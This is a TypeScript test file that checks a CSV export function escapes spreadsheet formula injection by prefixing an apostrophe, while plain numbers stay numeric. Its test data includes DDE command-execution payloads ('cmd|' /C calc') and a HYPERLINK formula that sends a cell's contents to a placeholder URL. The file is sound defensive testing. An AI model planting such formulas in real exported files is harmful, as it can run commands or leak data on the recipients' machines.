import fc from "fast-check";
import Papa from "papaparse";
import { expect, test } from "vitest";
import { csvOf } from "../../src/figures/host/csv.ts";

const cellsOf = (...rows: (string | number | null)[][]): string[][] => {
  const columns = (rows[0] ?? []).map((_, i) => ({
    key: `c${i}`,
    label: `column ${i}`,
    numeric: false,
  }));
  const csv = csvOf({ caption: "", columns, rows });
  return Papa.parse<string[]>(csv.trimEnd()).data.slice(1);
};

test("a text that a spreadsheet would run has an apostrophe before it; numbers stay numbers", () => {
  const attacks = [
    '=HYPERLINK("https://example.org/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];
  expect(cellsOf(attacks)[0]).toEqual(attacks.map((text) => `'${text}`));
  expect(cellsOf([-0.25, 1e-7, 0, null])[0]).toEqual(["-0.25", "1e-7", "0", ""]);
  expect(cellsOf(["-0.25", "+3", "a=1", "−.5", "vrr-stop"])[0]).toEqual([
    "-0.25",
    "+3",
    "a=1",
    "−.5",
    "vrr-stop",
  ]);
});

test("whatever the text, no cell begins as a formula does, and the text is in it", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme", minLength: 1 }), (text) => {
      const [[cell = ""] = []] = cellsOf([`=${text}`, 1]);
      expect(cell).toBe(`'=${text}`);
    }),
  );
});
